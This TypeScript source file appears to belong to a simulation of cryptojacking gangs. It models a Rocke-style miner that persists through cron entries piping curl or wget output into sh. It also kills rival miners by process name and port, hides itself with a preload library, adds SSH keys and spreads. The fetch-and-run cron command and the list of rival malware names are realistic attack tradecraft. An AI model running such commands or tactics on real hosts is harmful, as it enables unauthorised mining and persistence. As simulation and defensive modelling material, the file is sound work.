import type { GangModel } from '../../gangs/gang.ts'
import { hideProcess, spread } from '../../gangs/steps/settle-in.ts'
import { XMRIG_AGENT } from '../../network/cryptonote.ts'
import { OFFICE_CLIENT } from '../../network/ssh-bytes.ts'
import { MINUTE_MS } from '../../schedule.ts'
import { removeContainers } from './containers.ts'
import { drawn, drawnKey, LOWER, publicPool } from './draw.ts'
import { byCron, type Work } from './jobs.ts'
import { killByPattern, killByPort, PRELOAD, removeBinaries, unhide } from './oust.ts'
import { bring, bringMiner, startIfIdle } from './settle.ts'
import { blackhole, disableUnits } from './shut-out.ts'

const RIVALS = [
  'xmr',
  'kdevtmpfsi',
  'kinsing',
  'sustes',
  'tmp/java',
  'cryptonight',
  'bonns',
  'ir29xc1',
  'conns',
  'stratum',
  'perfctl',
  'uplugplay',
]
const BINARIES = ['java', 'khugepageds', 'kthrotlds', 'kerberods', 'sshd2'] as const

/** Chance, each time it finds others, that it leaves them nothing to come back with. */
const UPROOTS = { low: 0.1, medium: 0.25, high: 0.5 }

/** After Rocke: leaves nothing but a line for cron; each run sweeps the host, brings what is missing and starts it. */
export const cronBroom: GangModel = {
  name: 'cron-broom',
  family: 'Rocke',
  form({ random, places, skill }) {
    const binary = random.pick(BINARIES)
    const path = `${random.pick(['/tmp', '/var/tmp', '/usr/local/bin', '/dev/shm'])}/${binary}`
    const wallet = places.wallet()
    const [ip, site] = [places.server(), places.name()]
    const page = `/raw/${random.text(8, LOWER)}`
    const script = `/tmp/.${random.text(5, LOWER)}`
    const everyMs = random.pick([5, 10, 15, 30]) * MINUTE_MS
    const hides = skill !== 'low' && random.chance(0.6)
    const sweeps = { low: 0.6, medium: 0.8, high: 1 }[skill]
    const library = `/usr/local/lib/lib${random.pick(['ioset', 'jdk', 'cset', 'pamcd'])}.so`
    const sweep: Work = function* (foothold) {
      const { host, gang, random: order } = foothold
      const isShared = host.miners.some((miner) => miner.gang !== gang)
      if (!(yield* bring(foothold, page, script, { what: 'script' }))) return
      if (order.chance(sweeps)) {
        if (order.chance(0.4)) yield* unhide(foothold)
        if (isShared && order.chance(UPROOTS[skill])) {
          yield* removeBinaries(foothold)
          yield* disableUnits(foothold)
          if (order.chance(0.6)) yield* blackhole(foothold)
        }
        if (isShared && order.chance(0.5)) {
          yield* removeContainers(foothold, 'docker')
        }
        yield* killByPattern(foothold, drawn(order, RIVALS, 0.85))
        if (order.chance(0.7)) yield* killByPort(foothold, [2222, 3333, 5555, 7029, 10_128, 10_300, 13_333])
      }
      if (foothold.host.files.get(path) !== foothold.gang && !(yield* bringMiner(foothold, `/${binary}`)))
        return
      if (hides && foothold.host.files.get(PRELOAD) !== foothold.gang) yield* hideProcess(foothold, library)
      yield* startIfIdle(foothold)
    }
    return {
      traits: {
        wallets: [wallet],
        pool: publicPool(places, random, skill === 'high'),
        login: () => ({ login: wallet, pass: random.pick(['x', 'minebox']) }),
        agent: XMRIG_AGENT,
        miner: {
          path,
          comm: binary,
          args: (login) => (skill === 'low' ? ['-o', 'pool', '-u', login, '-k'] : []),
          cpuShare: skill === 'high' ? random.between(0.45, 0.65) : random.between(0.7, 0.98),
          knownAs: ['kerberods', 'khugepageds', 'kthrotlds'],
        },
        sources: [places.source(), places.source()],
        client: OFFICE_CLIENT,
        download: { ip, name: site, paths: [page, `/${binary}`] },
        control: null,
        key: random.chance(0.3) ? drawnKey(random, 'root@localhost') : null,
        waysIn: random.chance(0.5)
          ? ['redis', 'web-exploit', 'ssh-password']
          : ['web-exploit', 'ssh-password', 'redis'],
        spreads: 0.5,
        sells: 0,
        returnsAfterMs: null,
      },
      *occupy(foothold) {
        const order = foothold.random
        const { hands, isRoot } = foothold
        const places2 = isRoot
          ? drawn(order, ['/etc/cron.d/root', '/etc/cron.d/apache', '/etc/cron.d/system'], 0.5)
          : []
        const own = `/var/spool/cron/crontabs/${hands.user.name}`
        const fields = `*/${everyMs / MINUTE_MS} * * * *`
        const command = `(curl -fsSL ${site}${page}||wget -q -O- ${site}${page})|sh`
        yield* byCron(foothold, { place: own, line: `${fields} ${command}`, everyMs }, sweep)
        for (const place of places2)
          yield* byCron(
            foothold,
            { place, line: `${fields} root ${command}`, everyMs: everyMs * order.integer(1, 4) },
            sweep,
          )
        if (order.chance(0.5)) yield* foothold.addKey('append')
        if (order.chance(0.4)) yield* sweep(foothold)
        yield* spread(foothold)
      },
    }
  },
}
